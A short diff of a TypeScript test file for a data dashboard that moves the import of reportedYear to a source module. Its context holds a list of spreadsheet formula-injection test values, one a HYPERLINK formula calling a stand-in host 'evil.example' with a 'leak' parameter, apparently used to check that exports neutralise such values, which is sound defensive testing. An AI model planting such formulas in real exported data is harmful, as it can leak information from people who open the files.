@@ -14,7 +14,8 @@ import { writeRunFolder } from "../src/io/run-folder.js";
 import { queryRows } from "../src/io/duckdb.js";
 import { SYNTHETIC_CAPTION, SYNTHETIC_CSV_LINE } from "../src/io/synthetic.js";
 import { startServer, type DashboardServer } from "../src/server/server.js";
-import { makeScenario, reportedYear } from "./helpers.js";
+import { makeScenario } from "./helpers.js";
+import { reportedYear } from "../src/scenario/timeline.js";
 
 /** Region names a spreadsheet would run as formulas, were they written as they are. */
 const FORMULA_REGIONS = ['=HYPERLINK("http://evil.example/?leak","click")', "+1+1", "-2+3", "@SUM(1)"];
